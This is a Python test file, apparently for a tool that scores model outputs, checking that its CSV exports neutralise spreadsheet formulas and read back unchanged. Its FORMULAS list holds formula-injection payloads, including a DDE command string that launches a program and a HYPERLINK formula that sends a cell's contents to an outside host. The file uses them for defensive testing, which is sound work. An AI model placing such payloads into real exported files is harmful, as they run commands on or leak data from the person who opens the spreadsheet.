"""Texts in CSV: none runs in a spreadsheet, and each comes back as it was."""

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from typer.testing import CliRunner

from painted import encoded, paint
from salon.cli import app
from salon.diagnosis.reading.files import read_cells
from salon.files.csv_text import GUARDED, csv_of, guarded, unguarded
from salon.rewards.judging.tournament import Board, Place
from salon.rewards.scoring.inputs import read_inputs
from salon.rubrics.checklists import Item, PromptChecklist, load_checklists, save_checklists

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://elsewhere/?"&A1,"Look")',
    "@SUM(1)",
    "+1+cmd|x",
    "-2+3",
    "- a petal",
    " =1+1",
    "＝1+1",
    "a;=1+1",
    'a;"=1+1',
    "'=1+1",
    "''=1+1",
    "＋1",
)
NUMBERS = ("-0.5", "+1", "-1e-05", "3", "-1,5")
TEXTS = st.text(alphabet=st.sampled_from("=+-@＝'\" ;,\t\nab1."), max_size=12)


def cells_of(text: str) -> list[str]:
    """What a spreadsheet has in its cells, whichever sign it takes for the one between them."""
    return [
        cell
        for mark in ",;\t"
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=mark)
        for cell in row
    ]


def runs(cell: str) -> bool:
    bare = cell.strip(' "\u00a0')
    return bare[:1] in set("=+-@＝＋－＠") and not re.fullmatch(r"[-+]?\d+([.,]\d+)*([eE][-+]?\d+)?", bare)


@given(TEXTS)
@example("=a")
@example("'=a")
@example(";'=a;-1;'-1")
@example(";\n=\t@")
def test_a_text_comes_back_as_it_was_and_runs_nowhere(text: str) -> None:
    written = guarded(text)
    assert unguarded(written) == text
    assert not any(runs(cell) for cell in re.split(r"[;\t\r\n]", written))
    column = pl.Series(["", written]).to_frame("x")
    assert column.select(pl.all().str.replace_all(GUARDED, "${1}${2}"))["x"][1] == text


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_a_text_in_a_table(text: str) -> None:
    assert runs(text) or "'" in text or ";" in text
    assert not any(map(runs, cells_of(csv_of([["a", "b"], [1, text], [2, -0.5]]))))


@pytest.mark.parametrize("text", NUMBERS)
def test_a_number_is_left_as_it_is(text: str) -> None:
    assert guarded(text) == text


RECIPE = {"reward": {"terms": {"length": {"scorer": "length", "weight": 1, "args": {"max_tokens": 90}}}}}


def score(folder: Path, rows: list[dict[str, Any]], out: str) -> Path:
    (folder / "reward.yaml").write_text(json.dumps(RECIPE))
    (folder / "rows.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    words = ["score", folder / "reward.yaml", folder / "rows.jsonl", "-o", folder / out]
    assert CliRunner().invoke(app, list(map(str, words))).exit_code == 0
    return folder / out


def test_scores_hold_no_formula_and_are_read_as_they_were(tmp_path: Path) -> None:
    (tmp_path / "-x.png").write_bytes(encoded(paint("love", 1, 32)))
    rows: list[dict[str, Any]] = [
        {
            "id": f"{n}{text}",
            "prompt": text,
            "prompt_id": text,
            "group": text,
            "reply": f"{text} svg",
            "step": 1,
        }
        for n, text in enumerate((*FORMULAS, *NUMBERS))
    ]
    rows += [{"id": text, "prompt": "p", "picture": "-x.png"} for text in FORMULAS]
    out = score(tmp_path, rows, "o.csv")
    assert [cell for cell in cells_of(out.read_text()) if runs(cell)] == []
    frame = read_cells(out).frame
    assert frame["prompt_id"].to_list()[: len(FORMULAS)] == [" ".join(text.split("\t")) for text in FORMULAS]
    given = tmp_path / "given.csv"
    given.write_text(csv_of([["id", "prompt", "reply"], *((text, text, "x") for text in FORMULAS)]))
    assert [(row.id, row.prompt.text) for row in read_inputs(str(given)).rows] == [(t, t) for t in FORMULAS]


def test_a_board_holds_no_formula() -> None:
    fields = Place.__dataclass_fields__
    values = dict.fromkeys(fields, 0) | {"picture": FORMULAS[0], "remark": FORMULAS[1]}
    board = Board("j", (Place(**values),), 0, 0, 0, {}, ())  # type: ignore[arg-type]
    assert not any(map(runs, cells_of(board.table())))


@pytest.mark.parametrize("text", FORMULAS)
def test_checklists_come_back_as_they_were(text: str, tmp_path: Path) -> None:
    made = {"a": PromptChecklist("a", text, (Item(id="1", ask=f"{text}?", category=text, detail=text),))}
    save_checklists(made, str(tmp_path / "c.csv"))
    assert not any(map(runs, cells_of((tmp_path / "c.csv").read_text())))
    assert load_checklists(str(tmp_path / "c.csv")) == made


@pytest.mark.parametrize(
    "value", [True, False, 1e300, 1e308, -3, 10**12, "true", "1e300", 0.5, "nan", [1], 10**400]
)
@pytest.mark.parametrize("key", ["step", "tokens", "seed"])
def test_a_number_that_no_row_has_is_told(key: str, value: Any, tmp_path: Path) -> None:
    file = tmp_path / "rows.jsonl"
    file.write_text(f"{json.dumps({'reply': 'x', key: value})}\n{json.dumps({'reply': 'y', key: 3})}\n")
    bad, good = read_inputs(str(file)).rows
    if (key, value) == ("seed", -3):
        return
    assert not good.fault
    assert f"{key}: " in bad.fault
    assert "whole number" in bad.fault
    assert len(bad.fault) < 200
